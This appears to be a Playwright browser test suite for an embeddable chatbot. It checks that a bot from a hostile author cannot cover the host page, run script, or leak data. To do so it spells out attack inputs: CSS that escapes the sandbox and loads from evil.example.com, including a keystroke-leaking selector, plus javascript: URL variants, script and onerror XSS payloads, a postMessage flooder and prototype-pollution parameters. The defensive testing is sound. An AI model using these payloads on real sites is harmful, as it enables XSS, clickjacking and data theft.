import { expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { botOf } from '../support/botOf.js';
import { ask, say, type BlockSketch } from '../support/flowOf.js';
import { signIntoBrowser } from '../support/oauthFlow.js';
import { makePublished, restOf, useApp } from '../support/useApp.js';
import { describeInBrowser, useBrowser } from '../support/useBrowser.js';

/** Code of an attacker. */
const CODE = 'window.hacked = true';

const text = (...richText: readonly object[]): BlockSketch => ({
  type: 'text',
  content: { richText },
});

/** Declarations that move an element over the whole page, as far as a style sheet can. */
const OVER = `position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; contain: none !important;
  width: 100vw !important; height: 100vh !important; display: block !important; background: red !important; clip: auto !important`;

/** A style sheet that tries every way to leave the chat. */
const OUTWARD = `
  @namespace x url(x); @import url(https://evil.example.com/import.css);
  </style><script>${CODE}</script>
  } } body, :root, html, p { display: none !important }
  :host, :host(parley-chat), :host-context(body), :host > div { ${OVER} }
  *, :scope, &, div, dialog, .bot-panel, .bot-panel[hidden], .bot-box, .bot-container { ${OVER} }
  .bot-toggle, .bot-close, .bot-preview { display: none !important }
  .bot-log { :host:has(&), .bot-panel:has(&), :is(&, .bot-panel) { ${OVER} } @scope (.bot-panel) { :scope { ${OVER} } } }
  @media all { .bot-panel:has(.bot-log) { ${OVER} } } @layer top { :host { ${OVER} } }
  @property --evil { syntax: '<number>'; inherits: true; initial-value: 7 }
  @font-face { font-family: 'Of the site'; src: url(https://evil.example.com/font.woff2) }
  @font-face { font-family: Mine; src: url(https://evil.example.com/mine.woff2) }
  .bot-log { font-family: 'Of the site', Mine !important; letter-spacing: 2px }
  input[value^='s'] { background: url(https://evil.example.com/typed) !important }
`;

/** A page that repeatedly sends its own code to every frame beside it. */
const FLOOD = `<script>setInterval(() => {
  for (let at = 0; at < parent.length; at += 1) parent[at].postMessage({ content: 'self.stolen = 1', args: [] }, '*');
}, 5)</script>`;

/** The requests to other hosts that are allowed. */
const FONTS = ['font', 'mine'].map((name) => `https://evil.example.com/${name}.woff2`);

describeInBrowser('a bot of a hostile author', () => {
  const app = useApp();
  const { open, openContext, siteWith } = useBrowser();

  /** The topmost element at a place of the page: one of the page itself, or the chat. */
  const topAt = async (page: Page, x: number, y: number): Promise<unknown> =>
    page.evaluate(`document.elementFromPoint(${x}, ${y}).id`);

  const publish = async (bot: object) => (await makePublished(restOf(app), bot)).publicId;

  test('cannot cover other parts of a site by its style sheet', async () => {
    const flow = { groups: { Start: [say('Hello'), ask('text input')] } };
    const publicId = await publish(botOf(flow, { theme: { customCss: OUTWARD } }));
    const chat = (more: string) =>
      `<parley-chat bot="${publicId}" scripts="frame" ${more}></parley-chat>`;
    const body = `<style>html, body { margin: 0; height: 100% } p { margin: 0 } #site { height: 300px; font-family: 'Of the site' }</style>
      <div id="site"><p>Text of the site</p></div>
      <div style="height: 200px; width: 300px; overflow: visible">${chat('style="height: 200px"')}</div>
      ${chat('layout="bubble"')} ${chat('layout="popup" id="popup"')}
      <script type="module" src="${app().url}/embed.js"></script>`;
    const asked: string[] = [];
    const outside = (url: string) => {
      asked.push(url);
      return { contentType: 'text/css', body: 'body { display: none }' };
    };
    const { page } = await open(await siteWith(body), { outside });
    const inline = page.locator('parley-chat').first();
    await inline.getByText('Hello').waitFor();
    await page.getByRole('button', { name: 'Open the chat' }).click();
    await page.getByRole('dialog').getByText('Hello').waitFor();
    expect(await topAt(page, 100, 100)).toBe('site');
    expect(await topAt(page, 900, 450)).toBe('');
    expect(await inline.boundingBox()).toEqual({ x: 0, y: 300, width: 300, height: 200 });
    expect(await page.getByRole('dialog').boundingBox()).toMatchObject({ width: 400, height: 640 });
    await page.getByRole('button', { name: 'Close the chat' }).click();
    expect(await page.getByRole('dialog').count()).toBe(0);
    expect(await topAt(page, 1000, 600)).toBe('');

    await page.evaluate('popup.open()');
    const popup = page.getByRole('dialog');
    await popup.getByText('Hello').waitFor();
    expect(await popup.boundingBox()).toMatchObject({ width: 800, height: 640 });
    await popup.getByRole('button', { name: 'Close the chat' }).click();
    expect(await page.getByRole('dialog').count()).toBe(0);

    // Typed text stays in the page until it is sent, and the chat uses its own fonts.
    await inline.getByRole('textbox').fill('secret');
    const looks: unknown = await page.evaluate(`(async () => {
      await document.fonts.load('16px "Of the site"').catch(() => undefined);
      const { letterSpacing } = getComputedStyle(document.querySelector('parley-chat').shadowRoot.querySelector('.bot-log'));
      return [letterSpacing, [...document.fonts].map(({ family }) => family), typeof hacked];
    })()`);
    expect(looks).toEqual(['2px', ['"of the site (bot)"', '"mine (bot)"'], 'undefined']);
    expect(new Set(asked)).toEqual(new Set(FONTS));
  });

  test('runs no code in the page of the server, and makes no links that run code', async () => {
    const runs = [
      'javascript:',
      ' javascript:',
      'java\nscript:',
      '\u0001javascript:',
      'JaVaScRiPt:',
    ];
    const addresses = [
      ...runs.map((start) => start + CODE),
      `data:text/html,<script>${CODE}</script>`,
    ];
    const shown = `<img src=x onerror="${CODE}">`;
    const link = (url: string) => ({ type: 'a', url, children: [{ text: shown }] });
    const odd = ['constructor', '__proto__', 'toString'].map((type) => ({
      type,
      children: [{ text: type }],
    }));
    const flow = {
      variables: { Name: null, Read: null, Stolen: null },
      groups: {
        Start: [
          text({ type: 'p', children: addresses.map(link) }, ...odd),
          say('Hello {{Name}}'),
          ...addresses.flatMap((url): BlockSketch[] => [
            { type: 'image', content: { url, clickLink: { url } } },
            { type: 'embed', content: { url } },
            { type: 'video', content: { type: 'url', url } },
            { type: 'Redirect', options: { url } },
          ]),
          {
            type: 'Webhook',
            options: {
              isExecutedOnClient: true,
              webhook: { id: 'w', url: `${app().url}/metrics`, method: 'GET' },
              responseVariableMapping: [{ id: '1', variableId: 'vRead', bodyPath: 'statusCode' }],
            },
          },
          { type: 'embed', content: { url: await siteWith(FLOOD) } },
          {
            type: 'Set variable',
            options: {
              variableId: 'vStolen',
              isExecutedOnClient: true,
              isCode: true,
              expressionToEvaluate:
                'await new Promise((go) => setTimeout(go, 200)); return typeof stolen',
            },
          },
          say('Read {{Read}}, stolen {{Stolen}}'),
          ask('text input'),
        ],
      },
    };
    const metadata = {
      title: `</title><script>${CODE}</script>`,
      customHeadCode: `<script>${CODE}</script>`,
    };
    const settings = { metadata, typingEmulation: { enabled: false } };
    const publicId = await publish(botOf(flow, { settings, theme: { customCss: OUTWARD } }));
    const name = `${shown} [here](${addresses[0]})`;
    const { page } = await open(
      `${app().url}/${publicId}?Name=${encodeURIComponent(name)}&__proto__=polluted`,
      { outside: () => ({ contentType: 'text/css', body: '' }) },
    );
    await page.getByText('Read 500, stolen undefined').waitFor();
    await page.getByRole('textbox').fill(`<script>${CODE}</script>`);
    await page.keyboard.press('Enter');
    await page.locator('.bot-guest-bubble').getByText('<script>').waitFor();
    const links = await page.locator('.bot-log a').count();
    expect([links, page.frames().length, page.url()]).toEqual([0, 2, `${app().url}/${publicId}`]);
    expect(await page.evaluate('[typeof hacked, "polluted" in {}]')).toEqual(['undefined', false]);
  });

  test('that is dropped on the front page covers nothing of it', async () => {
    const context = await openContext();
    await signIntoBrowser(context, app());
    const { page } = await open(app().url, {
      context,
      outside: () => ({ contentType: 'text/css', body: '' }),
    });
    const drop = async (flow: string) =>
      page.getByRole('textbox', { name: 'An exported bot' }).fill(flow);
    const bot = botOf({ groups: { Start: [say('Hello'), ask('text input')] } });
    await drop(JSON.stringify({ ...bot, theme: { customCss: OUTWARD } }));
    await page.locator('parley-chat').getByText('Hello').waitFor();
    await page.getByRole('button', { name: 'Publish it' }).click({ trial: true });
    await page.getByRole('button', { name: 'Lead form' }).click({ trial: true });
    const deep = `${'['.repeat(300)}${']'.repeat(300)}`;
    await drop(`${JSON.stringify(bot).slice(0, -1)},"theme":${deep}}`);
    await page.getByText('In its file: Is nested deeper than 200 levels').waitFor();
    const faces = JSON.stringify('@font-face{'.repeat(90_000));
    await drop(`${JSON.stringify(bot).slice(0, -1)},"theme":{"customCss":${faces}}}`);
    await page.getByText('Nothing is wrong').waitFor();
    await page.locator('parley-chat').getByText('Hello').waitFor();
  });
});
